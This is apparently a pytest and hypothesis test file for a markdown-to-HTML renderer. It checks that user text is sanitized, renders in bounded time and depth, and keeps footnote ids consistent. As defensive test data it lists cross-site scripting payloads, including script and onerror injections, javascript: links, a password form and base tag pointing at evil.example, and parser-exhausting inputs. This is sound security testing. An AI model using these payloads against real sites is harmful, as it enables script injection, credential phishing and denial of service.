"""Texts written to harm, and what holds for every text there is."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from articles import markup
from articles.markup import MAX_CHARS, Figure, plain, render

BARRIER = "/media/pictures/0f0f0f0f-0000-4000-8000-000000000001.webp"
CARD = Figure("A barrier", "Not a real crossing", "Dara Lim", "AI-generated", 16, 9)


@pytest.mark.parametrize(
    "typed",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<style>*{display:none}</style>",
        "<form action=//evil.example><input name=password>",
        "<base href=//evil.example>",
        "<details open ontoggle=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<b title='`<img src=x onerror=alert(1)>`'>",
        '![a](/x"onerror="alert(1))',
        '[a](/x "t\\" onmouseover=\\"alert(1)")',
        '[a](</x" onclick="alert(1)>)',
        "[a]: /x 'on\"click=\"'\n\n[a] <p onclick=x>",
        "```<script>\n<script>alert(1)</script>\n```",
        "`<script>alert(1)</script>`",
        "x[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
        '| <td onclick="x"> |\n|---|\n| <script>alert(1)</script> |',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
    ],
)
def test_what_is_typed_never_becomes_a_tag_or_an_attribute_of_its_own(typed):
    shown = render(typed, doc_id="c1")

    foreign = r"<(script|img|svg|style|math|iframe|form|base|details)"
    assert re.search(foreign, shown) is None
    for tag in re.findall(r"<[a-z][^>]*>", shown):
        names = re.sub(r'="[^"]*"', "", tag)
        assert re.search(r"\bon[a-z]+|javascript", names) is None


HOSTILE = {
    "open brackets": "[" * 20_000,
    "open links": "[a](" * 10_000,
    "open notes": "[^a" * 5_000,
    "open pictures": "![" * 20_000,
    "open notes within": "^[" * 20_000,
    "stars": "*" * 20_000,
    "stars around": "*" * 20_000 + "a" + "*" * 20_000,
    "mixed emphasis": "*a **a " * 5_000,
    "stars and lines": "*_" * 20_000,
    "lines": "_" * 20_000 + "a",
    "quotations": ">" * 20_000 + "a",
    "spaced quotations": "> " * 20_000 + "a",
    "lists": "- " * 20_000 + "a",
    "deeper lists": "".join(" " * i + "* a\n" for i in range(300)),
    "numbers": "1. " * 20_000,
    "backticks": "".join("`" * i + "a" for i in range(1, 300)),
    "pictures within": "![" * 300 + "a" + "](/b)" * 300,
    "a few pictures within": "![" * 15 + "a" + "](/b)" * 15,
    "links within": "[" * 300 + "a" + "](/b)" * 300,
    "notes within": "[^a]: " * 5_000,
    "a chain of notes": "".join(f"[^{i}]: x[^{i + 1}]\n" for i in range(2_000))
    + "[^0]",
    "one note often": "[^a]: x\n\n" + "[^a]" * 5_000,
    "references": "".join(f"[{i}]: /x\n" for i in range(3_000)) + "[0]" * 3_000,
    "quotes": "\"'" * 20_000,
    "comments": "<!--" * 5_000,
    "autolinks": "<http://a" * 5_000,
    "tables": "a|b\n-|-\n" + "|\n" * 5_000,
    "table rows": "|a" * 100 + "\n" + "|-" * 100 + "\n" + ("|a" * 100 + "\n") * 100,
    "overrides": "&#8238;" * 5_000,
    "blank lines": "\n" * MAX_CHARS,
    "two million": "word " * 400_000,
}


def at_depth(frames, function, *args, **kwargs):
    """Call as far down the stack as a page's templates may be."""
    if frames:
        return at_depth(frames - 1, function, *args, **kwargs)
    return function(*args, **kwargs)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_texts_are_rendered_in_bounded_time_and_depth(text):
    started = time.perf_counter()

    shown = at_depth(500, render, text, doc_id="c1")
    plain(text)

    assert isinstance(shown, str)
    assert time.perf_counter() - started < 10


# What holds for every text

PIECES = re.findall(
    r"\S+",
    """# *a* ** _ ` ``` ~~ [ ] ( ) ![ ]( [^1] [^1]: [^a] [^a]: ^[ > - 1. | |-| {} \\ " '
    -- --- ... 6' 'Tis <script> </p> <a href= onclick= javascript: https://x.example
    /media/pictures/ &#8238; &#0; &lt; &quot; é ខ្មែរ 😀 word""",
)
BLANKS = [" ", "\n", "\n\n", "    ", "\t"]
ODD = ["\u202e", "\x00", "\ud800", "\u2029", f"![x]({BARRIER})", "[a](/b)"]
TEXTS = st.lists(st.sampled_from(PIECES + BLANKS + ODD), max_size=40).map(
    "".join
) | st.text(st.characters(codec=None))


@settings(deadline=None)
@given(TEXTS)
@example("[^1]\n\n[^1]: [a](/b)[^1]")
@example("![[^1]](/b)\n\n[^1]: x")
def test_any_text_renders_to_html_that_is_clean_already(text):
    shown = render(text, doc_id="c1", pictures={BARRIER: CARD})

    assert markup._sieve.clean(shown) == shown
    assert "<script" not in shown.lower()
    assert re.search("[\x00\u202a-\u202e\u2066-\u2069\ud800-\udfff]", shown) is None


@settings(deadline=None)
@given(TEXTS)
def test_any_text_keeps_its_notes_and_their_calls_together(text):
    shown = render(text, doc_id="c1")

    ids = re.findall(r' id="([^"]+)"', shown)
    assert len(ids) == len(set(ids))
    assert set(re.findall(r'href="#([^"]+)"', shown)) <= set(ids)


@settings(deadline=None)
@given(TEXTS)
def test_any_text_has_plain_words_without_overrides(text):
    words = plain(text)

    assert re.search("[\x00\u202a-\u202e\u2066-\u2069\ud800-\udfff]", words) is None
    assert words == words.strip()
